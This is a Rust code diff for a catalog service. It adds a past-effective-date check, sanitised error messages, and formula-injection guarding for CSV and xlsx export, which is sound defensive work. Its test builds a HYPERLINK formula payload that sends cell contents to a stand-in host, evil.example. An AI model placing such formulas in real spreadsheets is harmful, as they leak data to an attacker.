@@ -15,6 +15,7 @@ use fgf_domain::catalog::{
     Level, Material, MaterialForm, MaterialSource, MatterDoc, MatterKind, Necessity, OnlineDepth,
     SpecialProcedure, Tier,
 };
+use fgf_domain::cell;
 use fgf_domain::permission::Permission;
 use fgf_store::catalog::{MatterRow, MatterSummary, MatterVersionRow};
 use fgf_store::{AuditCtx, Scope, StoreError};
@@ -383,6 +384,14 @@ impl App {
                 "日期格式应为 YYYY-MM-DD",
             ));
         }
+        // A version cannot have been in force before it was approved: a past date would
+        // back-date the guide the public relied on (both are YYYY-MM-DD, so text order is
+        // date order).
+        if review.approve && effective < today {
+            return Err(ServiceError::invalid("effective_date_past")
+                .arg(&today)
+                .details(json!({ "field": "effective_date", "reason": "生效日期不得早于今天" })));
+        }
         if !review.approve && review.comment.trim().is_empty() {
             return Err(ServiceError::invalid("review_comment_required"));
         }
@@ -736,36 +745,50 @@ pub struct Sheet {
 }
 
 impl Sheet {
-    /// Reads CSV text (UTF-8, an optional byte-order mark, RFC 4180 quoting).
+    /// Reads CSV text (UTF-8, an optional byte-order mark, RFC 4180 quoting). The error is in
+    /// our words (it reaches the keeper's page), never the parser's.
     pub fn from_csv(text: &str) -> Result<Sheet, String> {
         let text = text.strip_prefix('\u{feff}').unwrap_or(text);
         let mut rdr = csv::ReaderBuilder::new()
             .has_headers(true)
             .flexible(true)
             .from_reader(text.as_bytes());
+        let bad_line = |e: &csv::Error| {
+            format!(
+                "CSV 第 {} 行无法读取",
+                e.position().map_or(1, csv::Position::line)
+            )
+        };
         let headers = rdr
             .headers()
-            .map_err(|e| e.to_string())?
+            .map_err(|e| bad_line(&e))?
             .iter()
             .map(|h| h.trim().to_owned())
             .collect();
         let mut rows = Vec::new();
         for rec in rdr.records() {
-            let rec = rec.map_err(|e| e.to_string())?;
+            let rec = rec.map_err(|e| bad_line(&e))?;
             let line = rec.position().map_or(0, |p| p.line() as usize);
             if rec.iter().all(|c| c.trim().is_empty()) {
                 continue;
             }
-            rows.push((line, rec.iter().map(|c| c.trim().to_owned()).collect()));
+            rows.push((
+                line,
+                rec.iter()
+                    .map(|c| cell::restore(c.trim()).to_owned())
+                    .collect(),
+            ));
         }
         Ok(Sheet { headers, rows })
     }
 
+    /// Writes CSV, each cell guarded against formula injection ([`cell::guard`]; the
+    /// readers undo it, so an export imports back unchanged).
     pub fn to_csv(&self) -> String {
         let mut w = csv::Writer::from_writer(Vec::new());
-        let _ = w.write_record(&self.headers);
+        let _ = w.write_record(self.headers.iter().map(|h| cell::guard(h).into_owned()));
         for (_, r) in &self.rows {
-            let _ = w.write_record(r);
+            let _ = w.write_record(r.iter().map(|c| cell::guard(c).into_owned()));
         }
         String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
     }
@@ -1803,12 +1826,13 @@ impl Sheet {
     /// `20.0`).
     pub fn from_xlsx(bytes: &[u8], name: &str) -> Result<Sheet, String> {
         use calamine::Reader;
+        // The reader's own wording stays out of the error, which reaches the keeper's page.
         let mut wb: calamine::Xlsx<_> =
             calamine::open_workbook_from_rs(std::io::Cursor::new(bytes))
-                .map_err(|e: calamine::XlsxError| e.to_string())?;
+                .map_err(|_: calamine::XlsxError| "不是有效的 xlsx 工作簿".to_owned())?;
         let range = wb
             .worksheet_range(name)
-            .map_err(|e| format!("{name}: {e}"))?;
+            .map_err(|_| format!("工作表“{name}”缺失或无法读取"))?;
         let mut rows = range.rows();
         let headers: Vec<String> = rows
             .next()
@@ -1816,7 +1840,10 @@ impl Sheet {
             .unwrap_or_default();
         let mut out = Vec::new();
         for (i, r) in rows.enumerate() {
-            let cells: Vec<String> = r.iter().map(|c| c.to_string().trim().to_owned()).collect();
+            let cells: Vec<String> = r
+                .iter()
+                .map(|c| cell::restore(c.to_string().trim()).to_owned())
+                .collect();
             if cells.iter().all(String::is_empty) {
                 continue;
             }
@@ -1827,7 +1854,9 @@ impl Sheet {
     }
 }
 
-/// Writes sheets into one xlsx workbook, headers bold and frozen.
+/// Writes sheets into one xlsx workbook, headers bold and frozen. Cells are text cells, which
+/// a spreadsheet program does not evaluate, but they are guarded like CSV cells all the same
+/// ([`cell::guard`]): editing such a cell, or saving the sheet as CSV, would make it live.
 pub fn to_xlsx(sheets: &[(&str, &Sheet)]) -> Result<Vec<u8>, String> {
     let mut wb = rust_xlsxwriter::Workbook::new();
     let bold = rust_xlsxwriter::Format::new().set_bold();
@@ -1836,7 +1865,7 @@ pub fn to_xlsx(sheets: &[(&str, &Sheet)]) -> Result<Vec<u8>, String> {
         ws.set_name(*name).map_err(|e| e.to_string())?;
         for (c, h) in sheet.headers.iter().enumerate() {
             let c = u16::try_from(c).map_err(|e| e.to_string())?;
-            ws.write_string_with_format(0, c, h, &bold)
+            ws.write_string_with_format(0, c, cell::guard(h), &bold)
                 .map_err(|e| e.to_string())?;
             ws.set_column_width(c, 14).map_err(|e| e.to_string())?;
         }
@@ -1845,7 +1874,8 @@ pub fn to_xlsx(sheets: &[(&str, &Sheet)]) -> Result<Vec<u8>, String> {
             let r = u32::try_from(r + 1).map_err(|e| e.to_string())?;
             for (c, v) in cells.iter().enumerate() {
                 let c = u16::try_from(c).map_err(|e| e.to_string())?;
-                ws.write_string(r, c, v).map_err(|e| e.to_string())?;
+                ws.write_string(r, c, cell::guard(v))
+                    .map_err(|e| e.to_string())?;
             }
         }
     }
@@ -2036,5 +2066,52 @@ impl App {
                 ),
             },
         ])
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{to_xlsx, Sheet};
+
+    /// Every text cell of the first worksheet, as stored (before any reader undoes the guard).
+    fn raw_xlsx_cells(bytes: &[u8]) -> Vec<String> {
+        use calamine::Reader;
+        let mut wb: calamine::Xlsx<_> =
+            calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
+        let name = wb.sheet_names()[0].clone();
+        let range = wb.worksheet_range(&name).unwrap();
+        range.rows().flatten().map(ToString::to_string).collect()
+    }
+
+    #[test]
+    fn finding_8_both_sheet_writers_guard_every_leading_character_and_read_back_unchanged() {
+        for lead in ['=', '+', '-', '@', '\t', '\r'] {
+            let evil = format!("{lead}HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")");
+            let sheet = Sheet {
+                headers: vec!["名称".to_owned(), "数量".to_owned()],
+                rows: vec![(2, vec![evil.clone(), "-5".to_owned()])],
+            };
+            let csv_text = sheet.to_csv();
+            let mut rdr = csv::Reader::from_reader(csv_text.as_bytes());
+            let written: Vec<String> = rdr
+                .records()
+                .next()
+                .unwrap()
+                .unwrap()
+                .iter()
+                .map(str::to_owned)
+                .collect();
+            assert_eq!(written, [format!("'{evil}"), "-5".to_owned()], "{lead:?}");
+            // The reader trims cells, so a leading tab or CR is only kept inside the guard.
+            let back = Sheet::from_csv(&csv_text).unwrap();
+            assert_eq!(back.rows[0].1, [evil.clone(), "-5".to_owned()], "{lead:?}");
+
+            let xlsx = to_xlsx(&[("事项", &sheet)]).unwrap();
+            let cells = raw_xlsx_cells(&xlsx);
+            assert!(cells.contains(&format!("'{evil}")), "{lead:?}: {cells:?}");
+            assert!(cells.contains(&"-5".to_owned()), "{cells:?}");
+            let back = Sheet::from_xlsx(&xlsx, "事项").unwrap();
+            assert_eq!(back.rows[0].1, [evil, "-5".to_owned()], "{lead:?}");
+        }
     }
 }
